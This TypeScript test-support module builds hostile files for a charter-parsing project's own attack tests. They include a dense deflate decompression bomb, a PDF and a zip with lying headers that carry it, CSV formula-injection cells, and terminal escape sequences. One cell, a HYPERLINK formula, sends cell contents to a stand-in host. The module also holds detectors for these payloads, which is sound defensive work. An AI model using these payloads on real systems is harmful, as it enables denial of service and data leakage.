/**
 * Hostile files built in memory for the attack tests and `npm run attack`: a deflate stream
 * that inflates to gigabytes from a few megabytes (a decompression bomb), a PDF whose page
 * content is such a stream, a zip whose central directory lies about an entry's size, a
 * charter whose cells are formulas and whose labels carry terminal escapes; and the checks of
 * what they attack (live formulas in a CSV, as LibreOffice reads it; terminal controls).
 */
import { spawnSync } from "node:child_process";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { crc32 } from "node:zlib";
import { parseCsv } from "./csv.js";

/** Writes bits least-significant first, as deflate packs them. */
class BitWriter {
  private readonly chunks: Buffer[] = [];
  private bytes: number[] = [];
  private cur = 0;
  private n = 0;
  /** `value`'s low `count` bits, lowest first (deflate's header fields and extra bits). */
  bits(value: number, count: number): void {
    for (let i = 0; i < count; i++) this.bit((value >> i) & 1);
  }
  /** A Huffman code, its most significant bit first. */
  code(value: number, length: number): void {
    for (let i = length - 1; i >= 0; i--) this.bit((value >> i) & 1);
  }
  /** `count` zero bits, the whole bytes among them as one block. */
  zeros(count: number): void {
    while (count > 0 && this.n !== 0) this.bit(0), count--;
    const whole = Math.floor(count / 8);
    if (whole > 0) {
      this.chunks.push(Buffer.from(this.bytes), Buffer.alloc(whole));
      this.bytes = [];
    }
    this.bits(0, count % 8);
  }
  private bit(b: number): void {
    this.cur |= b << this.n;
    if (++this.n === 8) {
      this.bytes.push(this.cur);
      this.cur = 0;
      this.n = 0;
    }
  }
  take(): Buffer {
    if (this.n > 0) this.bytes.push(this.cur);
    return Buffer.concat([...this.chunks, Buffer.from(this.bytes)]);
  }
}

/**
 * Raw deflate data that inflates to `size` zero bytes (a multiple of 258, plus one), in one
 * dynamic-Huffman block whose match code (length 258, distance 1) takes two bits: about
 * 1 byte per kilobyte of output, the densest deflate allows. Made in milliseconds, without
 * ever holding the inflated bytes.
 */
export function zeroBomb(size: number): Buffer {
  const matches = Math.ceil((size - 1) / 258);
  const head = new BitWriter();
  head.bits(1, 1); // BFINAL
  head.bits(2, 2); // dynamic Huffman
  head.bits(286 - 257, 5); // HLIT: 286 literal/length codes (0..285)
  head.bits(0, 5); // HDIST: one distance code
  // Code-length alphabet: 18 (a run of zeros) 1 bit, 1 and 2 two bits each.
  const order = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15];
  const clLen: Record<number, number> = { 18: 1, 1: 2, 2: 2 };
  head.bits(18 - 4, 4); // HCLEN: up to the position of code 1 in `order`
  for (const sym of order.slice(0, 18)) head.bits(clLen[sym] ?? 0, 3);
  // Canonical codes: 18 -> 0; 1 -> 10; 2 -> 11.
  const cl = { 18: [0, 1], 1: [2, 2], 2: [3, 2] } as const;
  const zeros = (n: number) => {
    while (n > 0) {
      const k = Math.min(138, n);
      head.code(cl[18][0], cl[18][1]);
      head.bits(k - 11, 7);
      n -= k;
    }
  };
  // Literal/length lengths: 0 -> 2, 256 -> 2, 285 -> 1; then the one distance code -> 1.
  head.code(cl[2][0], cl[2][1]);
  zeros(255);
  head.code(cl[2][0], cl[2][1]);
  zeros(28);
  head.code(cl[1][0], cl[1][1]);
  head.code(cl[1][0], cl[1][1]); // distance code 0: length 1
  // Literal/length codes: 285 -> 0; 0 -> 10; 256 -> 11. Distance 0 -> 0.
  head.code(2, 2); // the literal 0
  // Each match is the bits 0 (length 258) and 0 (distance 1): the matches are zero bits.
  head.zeros(2 * matches);
  head.code(3, 2); // end of block (256 -> 11)
  return head.take();
}

/** A zlib stream (RFC 1950) around raw deflate data; the checksum is left zero (pdf.js does not check it). */
export const zlibWrap = (raw: Buffer): Buffer => Buffer.concat([Buffer.of(0x78, 0x9c), raw, Buffer.alloc(4)]);

/** A one-page PDF whose page content is `content` with the given filter. */
export function pdfWithStream(content: Buffer, filter = "/FlateDecode"): Buffer {
  const parts: Buffer[] = [];
  const offsets: number[] = [];
  let at = 0;
  const put = (b: Buffer | string) => {
    const buf = typeof b === "string" ? Buffer.from(b, "latin1") : b;
    parts.push(buf);
    at += buf.length;
  };
  const obj = (n: number, body: Buffer | string) => {
    offsets[n] = at;
    put(`${n} 0 obj\n`);
    put(body);
    put("\nendobj\n");
  };
  put("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n");
  obj(1, "<< /Type /Catalog /Pages 2 0 R >>");
  obj(2, "<< /Type /Pages /Kids [3 0 R] /Count 1 >>");
  obj(3, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>");
  obj(4, Buffer.concat([Buffer.from(`<< /Length ${content.length} /Filter ${filter} >>\nstream\n`, "latin1"), content, Buffer.from("\nendstream", "latin1")]));
  const xref = at;
  put(`xref\n0 5\n0000000000 65535 f \n${offsets.slice(1).map((o) => `${String(o).padStart(10, "0")} 00000 n \n`).join("")}`);
  put(`trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`);
  return Buffer.concat(parts);
}

/** A PDF whose one content stream inflates to `size` bytes of zeros (4 GiB from about 4 MB). */
export const pdfBomb = (size: number): Buffer => pdfWithStream(zlibWrap(zeroBomb(size)));

/**
 * A zip archive of one stored-as-deflated entry `name` whose data inflates to `size` zeros while
 * its headers declare `declared` bytes: the central directory lies, so only a bound on what is
 * really inflated stops it.
 */
export function zipBombLying(name: string, size: number, declared = 1000): Buffer {
  const data = zeroBomb(size);
  const fname = Buffer.from(name);
  const local = Buffer.alloc(30);
  local.writeUInt32LE(0x04034b50, 0);
  local.writeUInt16LE(20, 4);
  local.writeUInt16LE(8, 8); // deflate
  local.writeUInt32LE(crc32(Buffer.alloc(0)), 14);
  local.writeUInt32LE(data.length, 18);
  local.writeUInt32LE(declared, 22);
  local.writeUInt16LE(fname.length, 26);
  const central = Buffer.alloc(46);
  central.writeUInt32LE(0x02014b50, 0);
  central.writeUInt16LE(20, 4);
  central.writeUInt16LE(20, 6);
  central.writeUInt16LE(8, 10);
  central.writeUInt32LE(crc32(Buffer.alloc(0)), 16);
  central.writeUInt32LE(data.length, 20);
  central.writeUInt32LE(declared, 24);
  central.writeUInt16LE(fname.length, 28);
  central.writeUInt32LE(0, 42);
  const cdOffset = local.length + fname.length + data.length;
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(central.length + fname.length, 12);
  end.writeUInt32LE(cdOffset, 16);
  return Buffer.concat([local, fname, data, central, fname, end]);
}

/** A terminal escape that retitles the window (OSC 0), one that colours text red, the 8-bit CSI. */
export const ESCAPES = { title: "\x1b]0;pwned\x07", red: "\x1b[31m", reset: "\x1b[0m", csi: "\u009b2J" } as const;

/** A dimension label that retitles the terminal and colours it. */
export const ESCAPE_LABEL = `${ESCAPES.title}Qualità ${ESCAPES.red}rossa${ESCAPES.reset}`;

/** Cells a spreadsheet would run as formulas. */
export const FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"clic")', "+1+1", "-2+3", "@SUM(1,1)", "=SUM(A1:A9)"] as const;

/**
 * A semicolon-separated charter (the text of fixtures/corpus/c05-genova-urp-2020/charter.csv)
 * whose first indicator's description, target, achieved value, explanation and notes are
 * FORMULAS, its quality factor ESCAPE_LABEL (no dimension: a review item), and whose second
 * indicator's description carries escapes after the word "reclami".
 */
export function hostileCharterCsv(csv: string): string {
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const lines = csv.split("\n");
  const first = lines[7].split(";");
  first[1] = quote(ESCAPE_LABEL);
  [first[2], first[3], first[4], first[6], first[7]] = FORMULAS.map(quote);
  lines[7] = first.join(";");
  const second = lines[8].split(";");
  second[2] = `Ore di apertura reclami ${ESCAPES.red}rossi${ESCAPES.reset}${ESCAPES.csi}`;
  lines[8] = second.join(";");
  return lines.join("\n");
}

/** RFC 4180 CSV as its cells, the header's included, in order. */
export const csvCells = (text: string): string[] => parseCsv(text).flat();

/** The cells a spreadsheet would run: text that starts with = + - @ tab or CR (a negative number is a number). */
export const liveFormulas = (cells: string[]): string[] => cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-\d+(\.\d+)?(e[+-]?\d+)?$/i.test(c));

/** The characters of a text a terminal would obey: C0 but tab and line feed, DEL, C1. */
export const terminalControls = (s: string): string[] => s.match(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g) ?? [];

/** The formulas LibreOffice finds opening each CSV (converted to flat ODS), by file; null where soffice is not installed. */
export function libreOfficeFormulas(files: string[], dir: string): Record<string, number> | null {
  const soffice = ["/usr/bin/soffice", "/usr/local/bin/soffice"].find((p) => existsSync(p));
  if (!soffice) return null;
  const out = join(dir, "lo");
  const r = spawnSync(soffice, [`-env:UserInstallation=file://${join(dir, "lo-profile")}`, "--headless", "--convert-to", "fods", "--outdir", out, ...files], { encoding: "utf8", timeout: 120_000 });
  if (r.status !== 0) throw new Error(`soffice failed: ${r.stderr}`);
  const counts: Record<string, number> = {};
  for (const f of readdirSync(out)) counts[f.replace(/\.fods$/, ".csv")] = (readFileSync(join(out, f), "utf8").match(/table:formula="/g) ?? []).length;
  return counts;
}
